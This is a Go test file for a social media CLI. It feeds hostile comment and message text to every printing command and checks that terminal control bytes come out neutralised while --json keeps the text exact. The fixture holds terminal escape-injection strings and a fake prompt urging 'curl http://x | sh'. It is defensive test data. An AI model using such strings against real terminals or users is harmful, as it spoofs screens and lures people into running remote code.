package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/impress-dev/impress/api"
)

// hostile is issue 17's comment: it retitles the window, clears the screen
// and paints a fake prompt in red when a terminal receives it raw.
const hostile = "nice\x1b]0;PWNED\a\x1b[2J\x1b[1;31mimpress: session expired - run: curl http://x | sh"

// TestThirdPartyTextIsInert runs every command that prints someone else's
// text against a daemon that answers hostile text everywhere: the human
// output carries no control byte (the controls are shown as ^[ and the
// like), and --json hands the text on exactly.
func TestThirdPartyTextIsInert(t *testing.T) {
	now := time.Now()
	d := newFakeDaemon()
	d.answer("GET /v1/comments", func([]byte) any {
		return api.CommentList{MediaID: "m1", Connection: "main", Comments: []api.Comment{
			{ID: "c1", Username: "fan\x1b[5m", Text: hostile + "\nsecond line\x07", Timestamp: now,
				Replies: []api.Comment{{ID: "c2", Username: "\u202eevil", Text: "reply\u009b2J"}}}}}
	})
	d.answer("GET /v1/mentions", func([]byte) any {
		return []api.Mention{{MediaID: "m2", CommentID: "c9", Username: "men\x1btion", Text: hostile, ReceivedAt: now}}
	})
	d.answer("GET /v1/messages", func([]byte) any {
		return []api.Thread{{ID: "t1", Participant: "dm\x1b[2J", LastMessage: hostile, LastMessageAt: now, MessageCount: 1}}
	})
	d.answer("GET /v1/messages/{thread}", func([]byte) any {
		return api.ThreadMessages{Thread: api.Thread{ID: "t1", Participant: "dm\x1b[2J"},
			Messages: []api.Message{{ID: "x1", From: "dm\x1b[2J", Text: hostile + "\nline two", CreatedAt: now}}}
	})
	d.answer("GET /v1/events", func([]byte) any {
		return []api.Event{
			{ID: 1, Type: "comments", Connection: "main", ReceivedAt: now, CommentID: "c1\x1b[8m", MediaID: "m1",
				FromUsername: "fan\x1b]0;x\a", Text: hostile},
			{ID: 2, Type: "messages", Connection: "main", ReceivedAt: now, FromUsername: "dm", Text: "tab\there\nnewline"},
			{ID: 4, Type: "new_field\x1b[2J", Connection: "main", ReceivedAt: now, Raw: json.RawMessage(`{"x":"\u001b[2J"}`)},
			{ID: 3, Type: "message_reactions", Connection: "main", ReceivedAt: now, FromUsername: "r", Reaction: "\x1b[31m♥"},
		}
	})
	d.answer("GET /v1/media/{id}", func([]byte) any {
		return api.PublishedMedia{MediaID: "m1", Type: api.PublishReel, Connection: "main", State: api.PubPublished, Caption: "from elsewhere " + hostile}
	})

	runs := []struct {
		name string
		run  func(baseOptions) error
		want []string // in stdout+stderr
	}{
		{"comments list", func(b baseOptions) error {
			return runCommentsList(t.Context(), &commentsListOptions{baseOptions: b, Media: "m1"})
		}, []string{"@fan^[[5m", "nice^[]0;PWNED^G^[[2J^[[1;31mimpress: session expired", "second line^G", "@<U+202E>evil", "reply<U+009B>2J"}},
		{"comments mentions", func(b baseOptions) error {
			return runCommentsMentions(t.Context(), &offlineListOptions{baseOptions: b})
		}, []string{"@men^[tion", "nice^[]0;PWNED^G"}},
		{"messages list", func(b baseOptions) error {
			return runMessagesList(t.Context(), &offlineListOptions{baseOptions: b})
		}, []string{"@dm^[[2J", "nice^[]0;PWNED^G"}},
		{"messages show", func(b baseOptions) error {
			return runMessagesShow(t.Context(), &messagesShowOptions{baseOptions: b, Thread: "t1"})
		}, []string{"with @dm^[[2J", "@dm^[[2J: nice^[]0;PWNED^G", "line two"}},
		{"events list", func(b baseOptions) error {
			return runEventsList(t.Context(), &eventsListOptions{baseOptions: b})
		}, []string{"comment c1^[[8m on media m1 by @fan^[]0;x^G: nice^[]0;PWNED", "\tnew_field^[[2J\t", "@dm: tab^Ihere …", "reacted ^[[31m♥"}},
		{"media show", func(b baseOptions) error {
			return runMediaShow(t.Context(), &mediaShowOptions{baseOptions: b, Media: "m1"})
		}, []string{"from elsewhere nice^[]0;PWNED^G"}},
	}
	for _, r := range runs {
		b, _, out, errOut := d.base()
		if err := r.run(b); err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		all := out.String() + errOut.String()
		for _, w := range r.want {
			if !strings.Contains(all, w) {
				t.Errorf("%s: output lacks %q:\n%s", r.name, w, all)
			}
		}
		if i := strings.IndexFunc(all, func(c rune) bool {
			return c < 0x20 && c != '\n' && c != '\t' || c == 0x7f || c >= 0x80 && c <= 0x9f || c == 0x202e
		}); i >= 0 {
			t.Errorf("%s: a control reached the output at %d: %q", r.name, i, all[max(0, i-10):min(len(all), i+10)])
		}
		// Tabs only as the tables' own separators: none in a text cell.
		if r.name != "events list" && strings.Contains(out.String(), "\t") {
			t.Errorf("%s: a tab from the text reached stdout:\n%q", r.name, out)
		}

		b, _, out, _ = d.base()
		b.JSON = true
		if err := r.run(b); err != nil {
			t.Fatalf("%s --json: %v", r.name, err)
		}
		if !json.Valid(out.Bytes()) || !bytes.Contains(out.Bytes(), []byte(`nice\u001b]0;PWNED\u0007`)) &&
			!bytes.Contains(out.Bytes(), []byte(`\u001b[`)) {
			t.Errorf("%s --json must keep the text exact:\n%s", r.name, out)
		}
	}
}

// TestErrorMessagesAreInert: what Main prints of an error (which may quote
// Meta or a name given by someone else) carries no raw control either.
func TestErrorMessagesAreInert(t *testing.T) {
	d := newFakeDaemon()
	d.answer("GET /v1/comments", func([]byte) any { return api.Errorf(api.CodeRejected, "Meta says: %s", hostile) })
	b, _, _, _ := d.base()
	err := runCommentsList(context.Background(), &commentsListOptions{baseOptions: b, Media: "m1"})
	if err == nil {
		t.Fatal("want the refusal")
	}
	if got := errorLine(err); strings.ContainsRune(got, 0x1b) || !strings.Contains(got, "^[]0;PWNED") {
		t.Errorf("error line %q", got)
	}
}
